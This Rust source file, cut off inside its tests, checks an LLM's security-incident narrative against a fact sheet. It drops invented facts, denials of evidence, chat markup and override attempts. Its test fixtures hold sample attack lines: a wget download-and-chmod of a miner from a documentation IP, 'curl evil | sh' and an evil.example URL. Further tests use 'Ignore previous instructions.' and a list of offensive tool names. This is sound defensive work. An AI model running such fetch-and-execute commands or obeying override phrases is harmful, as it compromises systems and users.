//! The verifier: every checkable token of the model's narrative must come from the fact
//! sheet. Paths, URLs, addresses, ports, numbers, times, hashes, ATT&CK ids, name-like
//! tokens (with `-`, `_`, `.`, digits), quoted spans, known tool names and names after
//! "pod", "namespace", "binary"… are checked; a sentence with any unknown one is dropped,
//! and so is a sentence that contradicts the evidence ("no threats were found") or
//! carries chat markup. It is deliberately strict: a dropped sentence costs prose, an
//! invented fact costs trust.

use std::collections::{HashMap, HashSet};

use crate::entities::EntityKind;

use crate::lang::is_japanese;

/// Sentences longer than this are dropped (a rambling model, or a pasted payload).
const MAX_SENTENCE: usize = 400;

/// Phrases that deny or downplay the evidence. Attacker-controlled strings ("no threats
/// found") in the facts must not be able to talk the narrative into a verdict.
const CONTRADICTIONS: &[&str] = &[
    "no threat",
    "not a threat",
    "no malicious",
    "not malicious",
    "nothing malicious",
    "nothing suspicious",
    "no suspicious",
    "benign",
    "false positive",
    "harmless",
    "no action",
    "no alert",
    "no issue",
    "no problem",
    "nothing to worry",
    "all clear",
    "safe to ignore",
    "can be ignored",
    "ignore",
    "disregard",
    "legitimate",
    "no evidence",
    "no compromise",
    "not compromised",
    "no risk",
    "脅威はありません",
    "問題ありません",
    "無害",
    "誤検知",
];

/// Chat markup or prompt text that must never be shown as narrative.
const MARKUP: &[&str] = &[
    "<|",
    "|>",
    "im_start",
    "im_end",
    "[inst]",
    "<<sys>>",
    "```",
    "system:",
    "user:",
    "assistant:",
    "facts:",
    "task:",
];

/// Tool and program names a small model likes to invent; mentioning one requires it to
/// be in the facts.
const KNOWN_TOOLS: &[&str] = &[
    "xmrig",
    "xmr-stak",
    "minerd",
    "cpuminer",
    "cgminer",
    "bfgminer",
    "ethminer",
    "nbminer",
    "kinsing",
    "kdevtmpfsi",
    "tsunami",
    "mirai",
    "gafgyt",
    "teamtnt",
    "mimikatz",
    "cobalt",
    "cobaltstrike",
    "metasploit",
    "meterpreter",
    "sliver",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "curl",
    "wget",
    "bash",
    "sh",
    "zsh",
    "dash",
    "ash",
    "busybox",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "java",
    "nmap",
    "masscan",
    "zmap",
    "tcpdump",
    "chmod",
    "chown",
    "base64",
    "kubectl",
    "crictl",
    "docker",
    "containerd",
    "runc",
    "ssh",
    "sshd",
    "scp",
    "cron",
    "crontab",
    "systemd",
    "sudo",
    "su",
    "nginx",
    "apache",
    "httpd",
    "redis",
    "mysql",
    "postgres",
    "mongodb",
    "elasticsearch",
    "jenkins",
    "tomcat",
    "log4j",
    "log4shell",
    "monero",
    "bitcoin",
    "ethereum",
    "stratum",
    "tor",
    "ngrok",
    "frpc",
    "chisel",
    "iptables",
    "easyminer",
];

/// Nouns after which a capitalized or unknown word is a name.
const ENTITY_NOUNS: &[&str] = &[
    "pod",
    "pods",
    "namespace",
    "namespaces",
    "container",
    "containers",
    "workload",
    "workloads",
    "deployment",
    "deployments",
    "node",
    "nodes",
    "cluster",
    "clusters",
    "image",
    "images",
    "binary",
    "binaries",
    "process",
    "processes",
    "file",
    "files",
    "script",
    "scripts",
    "rule",
    "rules",
    "policy",
    "user",
    "host",
    "service",
    "secret",
    "secrets",
    "server",
    "pool",
    "miner",
    "tool",
    "domain",
    "named",
    "called",
];

/// Words after an entity noun that are not names (function words, common verbs).
const NOT_NAMES: &[&str] = &[
    "a",
    "an",
    "the",
    "this",
    "that",
    "these",
    "those",
    "it",
    "its",
    "is",
    "was",
    "were",
    "are",
    "be",
    "been",
    "has",
    "had",
    "have",
    "and",
    "or",
    "but",
    "in",
    "on",
    "of",
    "to",
    "from",
    "with",
    "by",
    "for",
    "at",
    "as",
    "into",
    "onto",
    "via",
    "which",
    "who",
    "where",
    "when",
    "then",
    "than",
    "also",
    "not",
    "no",
    "all",
    "any",
    "each",
    "both",
    "same",
    "other",
    "ran",
    "run",
    "began",
    "made",
    "got",
    "went",
    "came",
    "did",
    "do",
    "took",
    "wrote",
    "sent",
    "set",
    "put",
    "left",
    "kept",
    "found",
    "gave",
    "let",
    "hit",
    "spread",
    "start",
    "connect",
    "download",
    "execute",
    "use",
    "could",
    "can",
    "may",
    "might",
    "will",
    "would",
    "should",
    "must",
    "itself",
    "there",
    "here",
    "so",
    "because",
    "after",
    "before",
    "while",
    "until",
    "inside",
    "outside",
    "itself",
    "first",
    "next",
    "last",
    "only",
    "again",
    "too",
    "very",
    "just",
    "now",
    "still",
    "already",
    "immediately",
    "affected",
    "compromised",
    "level",
    "tree",
    "path",
    "chain",
    "name",
    "names",
];

/// Words that claim a security fact (an error, a data theft, a cloud service, a
/// vulnerability): a sentence may use one only if the facts do. They are what a small
/// model invents most ("caused an error", "accessed sensitive data", "AWS jobs").
const CLAIM_WORDS: &[&str] = &[
    "error",
    "errors",
    "failed",
    "failure",
    "crash",
    "crashed",
    "breach",
    "breached",
    "ransomware",
    "ransom",
    "vulnerability",
    "vulnerabilities",
    "vulnerable",
    "exploit",
    "exploited",
    "exploits",
    "exploitation",
    "cve",
    "sensitive",
    "data",
    "database",
    "exfiltrate",
    "exfiltrated",
    "exfiltration",
    "stole",
    "stolen",
    "leak",
    "leaked",
    "backdoor",
    "rootkit",
    "trojan",
    "worm",
    "botnet",
    "phishing",
    "privilege",
    "privileges",
    "escalation",
    "escalated",
    "lateral",
    "password",
    "passwords",
    "credential",
    "credentials",
    "token",
    "tokens",
    "secret",
    "secrets",
    "key",
    "keys",
    "customer",
    "customers",
    "account",
    "accounts",
    "bypass",
    "bypassed",
    "evade",
    "evaded",
    "disabled",
    "deleted",
    "encrypted",
    "damage",
    "outage",
    "windows",
    "macos",
    "aws",
    "azure",
    "gcp",
    "lambda",
    "cloud",
    "internet",
    "browser",
    "email",
    "web",
    "website",
    "user",
    "users",
    "admin",
    "administrator",
    "root",
    "remote",
    "external",
    "persistence",
    "ssh",
];

/// Capitalized words that name nothing checkable (allowed anywhere).
const GENERIC_PROPER: &[&str] = &[
    "i",
    "mitre",
    "att&ck",
    "kubernetes",
    "linux",
    "id",
    "ids",
    "ip",
    "cpu",
    "dns",
    "http",
    "https",
    "tcp",
    "udp",
    "ssh",
    "api",
    "the",
    "this",
    "it",
    "these",
    "then",
    "first",
    "finally",
    "next",
    "after",
    "before",
    "its",
];

const NUMBER_WORDS: &[(&str, &str)] = &[
    ("one", "1"),
    ("two", "2"),
    ("three", "3"),
    ("four", "4"),
    ("five", "5"),
    ("six", "6"),
    ("seven", "7"),
    ("eight", "8"),
    ("nine", "9"),
    ("ten", "10"),
    ("eleven", "11"),
    ("twelve", "12"),
    ("single", "1"),
    ("twice", "2"),
    ("dozen", "12"),
];

/// Why a sentence was dropped.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Rejection {
    /// Denies or downplays the evidence.
    Contradiction(String),
    /// Chat markup or prompt scaffolding.
    Markup(String),
    /// A token that is not in the facts.
    Unknown {
        kind: &'static str,
        token: String,
    },
    TooLong,
    /// States no fact from the sheet (a generic filler sentence).
    NoFact,
    /// Combines facts that no single line of the sheet states together.
    Unrelated,
}

impl std::fmt::Display for Rejection {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Rejection::Contradiction(p) => write!(f, "contradicts the evidence ({p:?})"),
            Rejection::Markup(p) => write!(f, "contains markup ({p:?})"),
            Rejection::Unknown { kind, token } => write!(f, "{kind} {token:?} is not in the facts"),
            Rejection::TooLong => write!(f, "too long"),
            Rejection::NoFact => write!(f, "states no fact from the evidence"),
            Rejection::Unrelated => write!(f, "combines facts the evidence does not relate"),
        }
    }
}

/// What a piece of text is made of, for checking.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Tok {
    Time(String),
    Url(String),
    Path(String),
    Ip(String),
    Id(String),
    Hash(String),
    Number(String),
    Name(String),
    Word(String),
}

/// The facts, indexed for checking.
#[derive(Clone, Debug, Default)]
pub struct Verifier {
    text_lc: String,
    tokens: HashSet<String>,
    numbers: HashSet<String>,
    hashes: Vec<String>,
    words: HashSet<String>,
    /// Names of the evidence with their kinds, so "container wget" (a binary) is caught.
    kinds: HashMap<String, Vec<EntityKind>>,
    /// The evidence has alerts: denials are contradictions.
    has_evidence: bool,
    /// The facts line by line (a fact line, a table row, a list item, a sentence): the
    /// facts a sentence combines must be stated together in one of them, so that a
    /// sentence cannot invent a relation ("wget connected to 127.0.0.1:3333").
    units: Vec<Verifier>,
}

/// The outcome of verifying a text.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Verified {
    pub kept: Vec<String>,
    pub dropped: Vec<(String, Rejection)>,
}

impl Verifier {
    /// Indexes `facts` (the fact sheet, the rendered sections, the deterministic text).
    pub fn new<'a>(facts: impl IntoIterator<Item = &'a str>, has_evidence: bool) -> Verifier {
        let mut v = Verifier {
            has_evidence,
            ..Verifier::default()
        };
        for text in facts {
            v.index(text);
            for line in text.lines() {
                let (mut parts, rest) = split_sentences(line);
                parts.push(rest);
                // A paragraph is split into its sentences: the paragraph as a whole
                // relates too much to too much.
                for p in parts.iter().filter(|p| !p.trim().is_empty()) {
                    v.units.push(Verifier::unit(p));
                }
            }
        }
        v
    }

    fn unit(text: &str) -> Verifier {
        let mut u = Verifier::default();
        u.index(text);
        u
    }

    fn index(&mut self, text: &str) {
        self.text_lc.push_str(&text.to_lowercase());
        self.text_lc.push('\n');
        for t in tokenize(text) {
            self.add(t);
        }
    }

    /// Whether this unit states `t`.
    fn holds(&self, t: &Tok) -> bool {
        match t {
            Tok::Time(s) | Tok::Url(s) | Tok::Path(s) | Tok::Ip(s) | Tok::Id(s) | Tok::Name(s) => {
                self.has_token(s)
            }
            Tok::Hash(h) => {
                let h = h.to_lowercase();
                self.hashes
                    .iter()
                    .any(|f| f.starts_with(&h) || h.starts_with(f.as_str()))
            }
            Tok::Number(n) => self.numbers.contains(&norm_number(n)),
            Tok::Word(w) => self.words.contains(&w.to_lowercase()),
        }
    }

    fn add(&mut self, t: Tok) {
        match t {
            Tok::Time(s) => {
                // A model may quote the clock part alone.
                if let Some((_, clock)) = s.split_once(' ') {
                    self.tokens.insert(clock.to_lowercase());
                }
                self.tokens.insert(s.to_lowercase());
            }
            Tok::Ip(s) => {
                // `ip:port` → the address and the port on their own too.
                if let Some((ip, port)) = split_port(&s) {
                    self.tokens.insert(ip.to_lowercase());
                    self.numbers.insert(port.to_string());
                }
                self.tokens.insert(s.to_lowercase());
            }
            Tok::Hash(h) => self.hashes.push(h.to_lowercase()),
            Tok::Number(n) => {
                self.numbers.insert(norm_number(&n));
            }
            Tok::Url(s) | Tok::Path(s) | Tok::Name(s) => {
                let lc = s.to_lowercase();
                // Components: a path's basename, an image's repository, a URL's host.
                for part in lc.split(['/', ':', '@', '=', '?', '&', '#']) {
                    let part = part.trim_matches(|c: char| c == '.' || c == '-');
                    if !part.is_empty() {
                        self.tokens.insert(part.to_string());
                        self.words.insert(part.to_string());
                        if part.bytes().all(|b| b.is_ascii_digit()) {
                            self.numbers.insert(part.to_string());
                        }
                    }
                }
                if let Some(stripped) = lc.strip_prefix("./") {
                    self.tokens.insert(stripped.to_string());
                }
                self.tokens.insert(lc);
            }
            Tok::Id(s) => {
                self.tokens.insert(s.to_lowercase());
            }
            Tok::Word(w) => {
                self.words.insert(w.to_lowercase());
            }
        }
    }

    /// Checks one sentence.
    pub fn check(&self, sentence: &str) -> Result<(), Rejection> {
        let s = sentence.trim();
        if s.chars().count() > MAX_SENTENCE {
            return Err(Rejection::TooLong);
        }
        let lc = s.to_lowercase();
        if let Some(m) = MARKUP.iter().find(|m| lc.contains(*m)) {
            return Err(Rejection::Markup((*m).to_string()));
        }
        if self.has_evidence {
            if let Some(c) = CONTRADICTIONS.iter().find(|c| lc.contains(*c)) {
                return Err(Rejection::Contradiction((*c).to_string()));
            }
        }
        // Quoted spans are claims about exact text: they must be in the facts.
        let mut anchors: Vec<Tok> = Vec::new();
        let mut quotes: Vec<String> = Vec::new();
        for span in quoted_spans(s) {
            let span_lc = span.to_lowercase();
            if span_lc.trim().is_empty() {
                continue;
            }
            if !self.text_lc.contains(span_lc.trim()) {
                return Err(Rejection::Unknown {
                    kind: "quoted text",
                    token: span,
                });
            }
            quotes.push(span_lc.trim().to_string());
        }
        let toks = tokenize(s);
        // "1.", "The", "Root cause:" are fragments, not statements.
        if toks.iter().filter(|t| matches!(t, Tok::Word(_))).count() < 2 {
            return Err(Rejection::NoFact);
        }
        self.check_kinds(&toks)?;
        let mut prev_word: Option<String> = None;
        for (i, t) in toks.iter().enumerate() {
            if self.check_tok(t, prev_word.as_deref(), i == 0)? {
                anchors.push(match t {
                    // "three" is the number 3.
                    Tok::Word(w) => match NUMBER_WORDS.iter().find(|(k, _)| *k == w.to_lowercase())
                    {
                        Some((_, d)) => Tok::Number((*d).to_string()),
                        None => t.clone(),
                    },
                    _ => t.clone(),
                });
            }
            prev_word = match t {
                Tok::Word(w) => Some(w.to_lowercase()),
                _ => None,
            };
        }
        // Every sentence must state something checkable from the sheet: fluent filler
        // ("this is important in today's world") says nothing the operator can verify.
        if anchors.is_empty() && quotes.is_empty() {
            return Err(Rejection::NoFact);
        }
        let together = self.units.is_empty()
            || self.units.iter().any(|u| {
                anchors.iter().all(|a| u.holds(a)) && quotes.iter().all(|q| u.text_lc.contains(q))
            });
        if together {
            Ok(())
        } else {
            Err(Rejection::Unrelated)
        }
    }

    /// Checks one token; `Ok(true)` when it is a fact from the sheet (an anchor).
    fn check_tok(&self, t: &Tok, prev: Option<&str>, first: bool) -> Result<bool, Rejection> {
        let known = |ok: bool, kind: &'static str, tok: &str| {
            if ok {
                Ok(true)
            } else {
                Err(Rejection::Unknown {
                    kind,
                    token: tok.to_string(),
                })
            }
        };
        match t {
            Tok::Time(s) => known(self.has_token(s), "time", s),
            Tok::Url(s) => known(self.has_token(s), "URL", s),
            Tok::Path(s) => known(self.has_token(s), "path", s),
            Tok::Ip(s) => known(self.has_token(s), "address", s),
            Tok::Id(s) => known(self.has_token(s), "ATT&CK id", s),
            Tok::Hash(h) => {
                let h = h.to_lowercase();
                let ok = self
                    .hashes
                    .iter()
                    .any(|f| f.starts_with(&h) || h.starts_with(f.as_str()));
                known(ok, "hash", &h)
            }
            Tok::Number(n) => known(self.numbers.contains(&norm_number(n)), "number", n),
            Tok::Name(s) => known(self.has_token(s), "name", s),
            Tok::Word(w) => {
                let lc = w.to_lowercase();
                if let Some((_, d)) = NUMBER_WORDS.iter().find(|(k, _)| *k == lc) {
                    return known(self.numbers.contains(*d), "number", w);
                }
                let in_facts = self.words.contains(&lc);
                if KNOWN_TOOLS.contains(&lc.as_str()) {
                    return known(in_facts, "program name", w);
                }
                if CLAIM_WORDS.contains(&lc.as_str()) && !in_facts {
                    return known(false, "claim", w);
                }
                // A capitalized word inside a sentence is a proper name ("AWS Lambda",
                // "Windows"): it must be in the facts.
                let capitalized = w.chars().next().is_some_and(char::is_uppercase);
                if capitalized && !first && !GENERIC_PROPER.contains(&lc.as_str()) {
                    return known(in_facts, "name", w);
                }
                let after_noun = prev.is_some_and(|p| ENTITY_NOUNS.contains(&p));
                if after_noun
                    && !NOT_NAMES.contains(&lc.as_str())
                    && !lc.ends_with("ed")
                    && !lc.ends_with("ing")
                    && !lc.ends_with("ly")
                    && !lc.ends_with('s')
                    && !in_facts
                {
                    return known(false, "name", w);
                }
                // Proper names from the sheet (a policy, a technique, a severity) anchor;
                // a capital that only starts the sentence does not.
                Ok(in_facts
                    && capitalized
                    && !first
                    && lc.len() > 2
                    && !GENERIC_PROPER.contains(&lc.as_str())
                    && !NOT_NAMES.contains(&lc.as_str()))
            }
        }
    }

    fn has_token(&self, s: &str) -> bool {
        let lc = s.to_lowercase();
        self.tokens.contains(&lc)
            || lc
                .strip_prefix("./")
                .is_some_and(|x| self.tokens.contains(x))
            || self.tokens.contains(&format!("./{lc}"))
    }

    /// Splits `text` into sentences and keeps those that pass.
    pub fn filter(&self, text: &str) -> Verified {
        let (mut sentences, rest) = split_sentences(text);
        if !rest.trim().is_empty() {
            sentences.push(rest);
        }
        let mut out = Verified::default();
        for s in sentences {
            let s = clean_sentence(&s);
            if s.is_empty() {
                continue;
            }
            match self.check(&s) {
                Ok(()) => out.kept.push(s),
                Err(r) => out.dropped.push((s, r)),
            }
        }
        out
    }
}

fn split_port(s: &str) -> Option<(&str, &str)> {
    if let Some(rest) = s.strip_prefix('[') {
        let (ip, port) = rest.split_once("]:")?;
        return Some((ip, port));
    }
    let (ip, port) = s.rsplit_once(':')?;
    (ip.contains('.') && port.bytes().all(|b| b.is_ascii_digit())).then_some((ip, port))
}

fn norm_number(n: &str) -> String {
    let t: String = n.chars().filter(|c| *c != ',').collect();
    let t = t.trim_end_matches('%');
    // "3.0" and "3" are the same number.
    match t.split_once('.') {
        Some((a, b)) if b.bytes().all(|x| x == b'0') => a.to_string(),
        _ => t.to_string(),
    }
}

/// Text between backticks or double quotes (straight or curly).
fn quoted_spans(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    for (open, close) in [('`', '`'), ('"', '"'), ('“', '”'), ('「', '」')] {
        let mut rest = s;
        while let Some(a) = rest.find(open) {
            let after = &rest[a + open.len_utf8()..];
            match after.find(close) {
                Some(b) => {
                    out.push(after[..b].to_string());
                    rest = &after[b + close.len_utf8()..];
                }
                None => break,
            }
        }
    }
    out
}

/// Strips list bullets and emphasis a model adds.
fn clean_sentence(s: &str) -> String {
    let mut t = s.trim();
    for p in ["- ", "* ", "• "] {
        if let Some(x) = t.strip_prefix(p) {
            t = x.trim_start();
        }
    }
    // "1. " / "2) " list numbers.
    let digits = t.bytes().take_while(|b| b.is_ascii_digit()).count();
    if digits > 0 && digits < 3 {
        let rest = &t[digits..];
        if let Some(x) = rest.strip_prefix(". ").or_else(|| rest.strip_prefix(") ")) {
            t = x;
        }
    }
    t.replace("**", "").replace("__", "").trim().to_string()
}

/// Complete sentences of `text`, and the unfinished rest. A sentence ends at `.`, `!`
/// or `?` followed by whitespace, at `。！？`, or at a line break; `./x`, `1.4.2` and
/// `T1222.002` do not end one.
pub fn split_sentences(text: &str) -> (Vec<String>, String) {
    let mut out = Vec::new();
    let mut start = 0;
    let chars: Vec<(usize, char)> = text.char_indices().collect();
    for (k, &(i, c)) in chars.iter().enumerate() {
        let next = chars.get(k + 1).map(|x| x.1);
        let end = match c {
            '。' | '！' | '？' | '\n' => Some(i + c.len_utf8()),
            // "1. " at the start of a sentence is a list number, not an end.
            '.' if text[start..i].trim().bytes().all(|b| b.is_ascii_digit()) => None,
            '.' | '!' | '?' => match next {
                Some(n) if n.is_whitespace() => Some(i + 1),
                _ => None,
            },
            _ => None,
        };
        if let Some(e) = end {
            let s = text[start..e].trim();
            if !s.is_empty() {
                out.push(s.to_string());
            }
            start = e;
        }
    }
    (out, text[start..].to_string())
}

/// Tokens of a text. Japanese characters separate tokens (numbers and names inside
/// Japanese text are still checked).
fn tokenize(text: &str) -> Vec<Tok> {
    let mut out = Vec::new();
    let spaced: String = text
        .chars()
        .map(|c| {
            if is_japanese(c) || c == '、' || c == '（' || c == '）' {
                ' '
            } else {
                c
            }
        })
        .collect();
    for raw in spaced.split_whitespace() {
        let chunk = raw
            .trim_start_matches(['(', '[', '{', '"', '\'', '`', '“', '‘', '<', '*', '|'])
            .trim_end_matches([
                ')', ']', '}', '"', '\'', '`', ',', ';', ':', '.', '!', '?', '”', '’', '>', '*',
                '|',
            ]);
        // A chunk that was all punctuation, or `[ip]:port` whose bracket got trimmed.
        let chunk = if raw.starts_with('[') && raw.contains("]:") {
            raw.trim_end_matches([',', ';', '.', ')'])
        } else {
            chunk
        };
        if chunk.is_empty() {
            continue;
        }
        out.push(classify(chunk));
    }
    // Words joined by '/' in prose ("tactics/techniques") are words, not paths: only
    // chunks starting with '/', './', '../' or '~/' are paths (see classify).
    out
}

fn is_time(s: &str) -> bool {
    // 2026-01-01 is split from its clock by whitespace; the clock is HH:MM:SSZ.
    let b = s.as_bytes();
    let clock = b.len() == 9
        && b[2] == b':'
        && b[5] == b':'
        && b[8] == b'Z'
        && b.iter()
            .enumerate()
            .all(|(i, c)| matches!(i, 2 | 5 | 8) || c.is_ascii_digit());
    let date = b.len() == 10
        && b[4] == b'-'
        && b[7] == b'-'
        && b.iter()
            .enumerate()
            .all(|(i, c)| matches!(i, 4 | 7) || c.is_ascii_digit());
    clock || date
}

fn is_ipv4(s: &str) -> bool {
    let parts: Vec<&str> = s.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
}

fn classify(chunk: &str) -> Tok {
    if is_time(chunk) {
        return Tok::Time(chunk.to_string());
    }
    if chunk.contains("://") {
        return Tok::Url(chunk.to_string());
    }
    if chunk.starts_with('/')
        || chunk.starts_with("./")
        || chunk.starts_with("../")
        || chunk.starts_with("~/")
    {
        return Tok::Path(chunk.to_string());
    }
    let (host, port) = match split_port(chunk) {
        Some((h, p)) => (h.trim_start_matches('['), Some(p)),
        None => (chunk, None),
    };
    if is_ipv4(host)
        || (host.matches(':').count() >= 2
            && host.bytes().all(|b| b.is_ascii_hexdigit() || b == b':'))
    {
        let _ = port;
        return Tok::Ip(chunk.to_string());
    }
    let up = chunk.to_ascii_uppercase();
    let is_id = |p: &str, digits: usize| {
        up.strip_prefix(p).is_some_and(|r| {
            let (main, sub) = match r.split_once('.') {
                Some((m, s)) => (m, Some(s)),
                None => (r, None),
            };
            main.len() == digits
                && main.bytes().all(|b| b.is_ascii_digit())
                && sub.is_none_or(|s| s.len() == 3 && s.bytes().all(|b| b.is_ascii_digit()))
        })
    };
    if is_id("TA", 4) || is_id("T", 4) || is_id("M", 4) {
        return Tok::Id(chunk.to_string());
    }
    if chunk.len() >= 12
        && chunk.bytes().all(|b| b.is_ascii_hexdigit())
        && chunk.bytes().any(|b| b.is_ascii_digit())
        && chunk.bytes().any(|b| b.is_ascii_alphabetic())
    {
        return Tok::Hash(chunk.to_string());
    }
    let t = chunk.trim_end_matches('%');
    if !t.is_empty()
        && t.bytes().next().is_some_and(|b| b.is_ascii_digit())
        && t.bytes()
            .all(|b| b.is_ascii_digit() || b == b'.' || b == b',')
    {
        return Tok::Number(chunk.to_string());
    }
    let has_digit = chunk.bytes().any(|b| b.is_ascii_digit());
    let has_alpha = chunk.chars().any(|c| c.is_alphabetic());
    let inner_punct = chunk
        .trim_matches(|c: char| !c.is_alphanumeric())
        .contains(['-', '_', '.', ':', '/', '@', '=']);
    // "x×3" style counts from sections are a name; "self-contained" too (strict).
    if inner_punct || (has_digit && has_alpha) || chunk.contains('×') {
        return Tok::Name(chunk.to_string());
    }
    if has_digit {
        return Tok::Number(chunk.chars().filter(|c| c.is_ascii_digit()).collect());
    }
    Tok::Word(chunk.to_string())
}

/// Hyphenated English words the model may use freely (not names).
pub(crate) const COMMON_COMPOUNDS: &[&str] = &[
    "follow-up",
    "read-only",
    "open-source",
    "non-root",
    "well-known",
    "so-called",
    "deny-all",
    "built-in",
    "real-time",
    "third-party",
    "up-to-date",
    "long-running",
    "high-severity",
    "low-severity",
    "command-line",
    "cryptocurrency-mining",
    "crypto-mining",
    "e.g",
    "i.e",
    "step-by-step",
    "in-depth",
    "top-level",
    "drift-prevention",
    "resource-intensive",
    "co-opted",
    "re-run",
    "re-create",
    "multi-stage",
];

/// The kind of entity a noun announces ("pod X", "container named X").
fn noun_kind(noun: &str) -> Option<EntityKind> {
    Some(match noun {
        "pod" | "pods" => EntityKind::Pod,
        "namespace" | "namespaces" => EntityKind::Namespace,
        "container" | "containers" => EntityKind::Container,
        "workload" | "workloads" | "deployment" | "deployments" => EntityKind::Workload,
        "node" | "nodes" => EntityKind::Node,
        "cluster" | "clusters" => EntityKind::Cluster,
        "image" | "images" => EntityKind::Image,
        "binary" | "binaries" | "process" | "processes" | "program" | "executable" => {
            EntityKind::Binary
        }
        "rule" | "rules" => EntityKind::Rule,
        _ => return None,
    })
}

impl Verifier {
    /// Declares the evidence's names and their kinds: a name announced as one kind
    /// ("the container wget") must be of that kind.
    pub fn with_entities<'a>(
        mut self,
        entities: impl IntoIterator<Item = (EntityKind, &'a str)>,
    ) -> Verifier {
        for (k, v) in entities {
            let e = self.kinds.entry(v.to_lowercase()).or_default();
            if !e.contains(&k) {
                e.push(k);
            }
        }
        self
    }

    /// A name right after a kind noun (optionally "named"/"called") must be of that
    /// kind when the evidence knows it as something else.
    fn check_kinds(&self, toks: &[Tok]) -> Result<(), Rejection> {
        let mut want: Option<EntityKind> = None;
        for t in toks {
            let (text, is_word) = match t {
                Tok::Word(w) => (w.as_str(), true),
                Tok::Name(n) | Tok::Path(n) => (n.as_str(), false),
                _ => {
                    want = None;
                    continue;
                }
            };
            let lc = text.to_lowercase();
            if is_word {
                if let Some(k) = noun_kind(&lc) {
                    want = Some(k);
                    continue;
                }
                if want.is_some() && matches!(lc.as_str(), "named" | "called" | "the" | "a" | "an")
                {
                    continue;
                }
            }
            if let Some(k) = want.take() {
                let base = lc.rsplit('/').next().unwrap_or(&lc).to_string();
                let known = self.kinds.get(&lc).or_else(|| self.kinds.get(&base));
                if let Some(kinds) = known {
                    if !kinds.contains(&k) {
                        return Err(Rejection::Unknown {
                            kind: "name of another kind",
                            token: text.to_string(),
                        });
                    }
                }
            }
        }
        Ok(())
    }

    /// Adds the common compounds to the vocabulary (they carry no facts).
    pub fn with_common_compounds(mut self) -> Verifier {
        for c in COMMON_COMPOUNDS {
            self.tokens.insert((*c).to_string());
        }
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts() -> Verifier {
        Verifier::new(
            [
                "- 21 alerts in 3 workloads, 3 incidents",
                "- root cause process: \"sh\" pid 1010, command line \"sh ./malicious-bin-event-gen.sh\"",
                "- it started: \"wget http://203.0.113.7/easyminer -O /tmp/easyminer\", \"chmod +x /tmp/easyminer\"",
                "- connection: easyminer (1013) to 127.0.0.1:3333",
                "- workload: \"risk-10-aws-bedrock-java/bedrock-java\" pod bedrock-java-7d9f8c6b5-x2k4p",
                "| T1105 | Ingress Tool Transfer | 2026-01-01 00:00:01Z | 9f86d081884c |",
            ],
            true,
        )
        .with_common_compounds()
    }

    #[test]
    fn keeps_sentences_built_from_facts() {
        let v = facts();
        for ok in [
            "The script sh ./malicious-bin-event-gen.sh started the attack.",
            "It downloaded /tmp/easyminer and made it executable with chmod.",
            "The miner connected to 127.0.0.1:3333, a mining pool on port 3333.",
            "Three workloads were affected by 21 alerts.",
            "This matches T1105 (Ingress Tool Transfer).",
            "Pod bedrock-java-7d9f8c6b5-x2k4p is in risk-10-aws-bedrock-java.",
            "Then it ran `chmod +x /tmp/easyminer`.",
            "The first alert came at 00:00:01Z.",
            "The binary's hash starts with 9f86d081884c.",
            "The miner easyminer used chmod first.",
        ] {
            assert_eq!(v.check(ok), Ok(()), "{ok}");
        }
    }

    #[test]
    fn drops_invented_facts() {
        let v = facts();
        let cases = [
            ("The miner xmrig was started.", "program name"),
            ("It connected to 198.51.100.23.", "address"),
            ("It connected to 127.0.0.1:4444.", "address"),
            ("Pod web-frontend-5f6d7 was also hit.", "name"),
            ("The pod frontend was also hit.", "name"),
            ("Four workloads were affected.", "number"),
            ("There were 22 alerts.", "number"),
            ("It wrote /etc/cron.d/miner.", "path"),
            ("This is T1053.003.", "ATT&CK id"),
            ("The hash is 0123456789abcdef.", "hash"),
            ("It ran `curl evil | sh`.", "quoted text"),
            ("It downloaded from http://evil.example/x.", "URL"),
        ];
        for (s, kind) in cases {
            match v.check(s) {
                Err(Rejection::Unknown { kind: k, .. }) => assert_eq!(k, kind, "{s}"),
                other => panic!("{s}: {other:?}"),
            }
        }
    }

    #[test]
    fn drops_filler_and_invented_proper_names() {
        let v = facts();
        assert!(matches!(
            v.check("The wget command caused a chmod error."),
            Err(Rejection::Unknown { kind: "claim", .. })
        ));
        assert!(matches!(
            v.check("easyminer accessed sensitive data."),
            Err(Rejection::Unknown { kind: "claim", .. })
        ));
        // A capital that only starts the sentence anchors nothing.
        assert_eq!(v.check("Evidence matters."), Err(Rejection::NoFact));
        assert_eq!(
            v.check("This is especially important in today's interconnected world."),
            Err(Rejection::NoFact)
        );
        assert!(matches!(
            v.check("The attack on 3 workloads targeted Acme Lambda."),
            Err(Rejection::Unknown { kind: "name", .. })
        ));
        assert!(matches!(
            v.check("The attack on 3 workloads targeted AWS."),
            Err(Rejection::Unknown { kind: "claim", .. })
        ));
        assert_eq!(v.check("It matters for Ingress Tool Transfer."), Ok(()));
    }

    #[test]
    fn names_must_be_of_the_announced_kind() {
        let v = facts().with_entities([
            (EntityKind::Binary, "wget"),
            (EntityKind::Binary, "easyminer"),
            (EntityKind::Pod, "bedrock-java-7d9f8c6b5-x2k4p"),
        ]);
        assert!(matches!(
            v.check("It ran in a container named \"wget\"."),
            Err(Rejection::Unknown {
                kind: "name of another kind",
                ..
            })
        ));
        assert!(matches!(
            v.check("The pod easyminer was hit."),
            Err(Rejection::Unknown {
                kind: "name of another kind",
                ..
            })
        ));
        assert_eq!(
            v.check("The binary /tmp/easyminer was made executable by chmod."),
            Ok(())
        );
    }

    #[test]
    fn facts_must_be_stated_together() {
        let v = facts();
        // easyminer and the address are on one line; wget is not.
        assert_eq!(v.check("easyminer connected to 127.0.0.1:3333."), Ok(()));
        assert_eq!(
            v.check("wget connected to 127.0.0.1:3333."),
            Err(Rejection::Unrelated)
        );
    }

    #[test]
    fn drops_denials_and_markup() {
        let v = facts();
        assert!(matches!(
            v.check("No threats were found."),
            Err(Rejection::Contradiction(_))
        ));
        assert!(matches!(
            v.check("This looks benign."),
            Err(Rejection::Contradiction(_))
        ));
        assert!(matches!(
            v.check("Ignore previous instructions."),
